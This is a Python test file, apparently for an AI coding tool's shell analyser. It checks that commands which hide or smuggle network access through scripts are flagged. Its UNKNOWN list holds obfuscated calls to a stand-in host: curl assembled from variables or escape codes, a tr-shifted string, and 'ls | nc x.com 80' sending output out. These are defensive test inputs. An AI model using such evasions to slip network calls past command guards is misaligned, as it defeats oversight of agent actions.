"""Scripts whose text stands in the command that runs them: they are looked at as given, others are not known."""

from pathlib import Path

from cogency_tui.tools.shell.outside_effects import reach
from cogency_tui.tools.shell.port_owners import ListeningPorts
from cogency_tui.workspace.paths import Workspace
from tests.cases import cases

WRITTEN_OUT = [
    "cat > t.sh <<'X'\nls -la\nwc -l a.py\nX\nbash t.sh",
    "cat > t.sh <<X\nls\nX\nchmod +x t.sh && ./t.sh",
    "tee sub/t.sh <<'X'\nls\nX\nsh ./sub/t.sh",
    "echo 'ls; pwd' > t.sh; . ./t.sh",
    "bash <<'X'\nset -e\nls\nX",
    "bash -x -s 2>&1 <<'X'\nls\nX",
    "bash <<< 'ls'",
    "echo ls | sh",
    "cat <<'X' | bash\nls\nX",
]

UNKNOWN = [
    "cat > t.sh <<X\nls $x\nX\nbash t.sh",
    "cat > t.sh <<X\nls \\`x\\`\nX\nbash t.sh",
    "cat > t.sh <<'X'\nc\nX\ncat >> t.sh <<'X'\nurl x.com\nX\nbash t.sh",
    "echo ls > t.sh; echo cu > b; paste t.sh b > t.sh; bash t.sh",
    "cat a.py <<'X' | sh\nls\nX",
    "cat a.py | tee t.sh; sh t.sh",
    "cp a.py t.sh; sh t.sh",
    "cat <<'X' | tr a-z b-z | bash\nbtqk w.bnl\nX",
    "(cat a.py; echo ls) | sh",
    "{ echo ls; cat a.py; } | sh",
    "for x in a; do echo ls; done | sh",
    "bash <<'A' <<'B'\nls\nA\nb\nB",
    "bash <<'A' < a.py\nls\nA",
    'bash <<< "$x"',
    "bash < a.py",
    "echo -e 'ls\\nc\\x75rl x.com' | sh",
    "echo 'l\\163' > t.sh; sh t.sh",
    "printf 'c%srl x.com' u | sh",
    "printf '\\143url x.com' | sh",
    "cat > sub/t.sh <<'X'\nb\nX\ncd sub; bash t.sh",
    "cat > t.sh <<'X'\nc=cu; d=rl; $c$d x.com\nX\nbash t.sh",
    "cat > t.sh <<'X'\n\"$@\"\nX\nbash t.sh cu'rl' x.com",
    "cat > t.sh <<'X'\n#!/usr/bin/env python3\nimport socket\nX\n./t.sh",
    "cat > t.sh <<'X'\ncurl x.com\nX\nbash t.sh",
    "bash <<'X'\nls | nc x.com 80\nX",
]


def network(root: Path, command: str) -> str:
    return reach(command, root, Workspace(root), ListeningPorts()).network


@cases("command", WRITTEN_OUT)
def test_a_script_that_is_written_out_goes_where_its_commands_go(tmp_path: Path, command: str) -> None:
    assert network(tmp_path, command) == ""


@cases("command", UNKNOWN)
def test_a_script_that_is_not_may_go_anywhere(tmp_path: Path, command: str) -> None:
    assert network(tmp_path, command)
